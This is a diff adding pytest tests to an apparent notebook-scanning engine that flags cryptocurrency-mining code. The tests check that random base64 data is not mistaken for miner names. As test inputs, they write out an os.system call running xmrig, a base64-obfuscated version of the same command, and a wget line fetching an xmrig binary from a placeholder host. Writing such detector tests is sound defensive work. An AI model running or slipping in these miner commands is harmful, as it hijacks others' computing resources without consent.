@@ -311,3 +311,31 @@ def test_assignments_and_imports_are_found_as_before_in_long_blank_and_tuple_lin
     assert window is not None
     assert "(first, tool) = 'a', 'girmx'\n" in window.text
     assert Engine(load_policy()).evaluate(text).hit("mining.xmrig") is not None
+
+
+@pytest.mark.parametrize("alphabet", ["standard", "urlsafe"])
+def test_pasted_base64_is_data_not_names(default_engine: Engine, alphabet: str) -> None:
+    """Random base64 holds short names and signs by chance ("/mz/", "+frp+", "-uv-", "DDOS"),
+    about once per megabyte; inside a run of data they are no reason to read the cell, and the
+    cell's own code beside the data is still read."""
+    import base64
+    import random
+
+    encode = base64.b64encode if alphabet == "standard" else base64.urlsafe_b64encode
+    data = encode(random.Random(11).randbytes(3_000_000)).decode()
+    cell = f'BLOB = "{data}"'
+    assert any(f"{c}mz{d}" in data.lower() for c in "+/-_" for d in "+/-_")  # chance names are there
+    assert not default_engine.needs_analysis(cell)
+    assert default_engine.evaluate(cell).rule_ids == ()
+    beside = cell + "\nimport os\nos.system('./xmrig --donate-level 1')"
+    assert "mining.xmrig" in default_engine.evaluate(beside).rule_ids
+    hidden = "import base64, os\nos.system(base64.b64decode('Li94bXJpZyAtLWRvbmF0ZS1sZXZlbCAx').decode())\n" + cell
+    assert "mining.xmrig" in default_engine.evaluate(hidden).rule_ids
+
+
+def test_a_name_in_a_long_url_path_is_not_taken_for_data(default_engine: Engine) -> None:
+    path = "/".join("Ab3" * 20 for _ in range(6))  # 365 characters of letters, digits and slashes
+    cell = f"!wget -q https://downloads.example.org/{path}/xmrig"
+    places: list[int] = []
+    assert default_engine.compiled.worth_analyzing(cell, places)
+    assert cell.index("xmrig") in places  # the path's run follows a host: not data
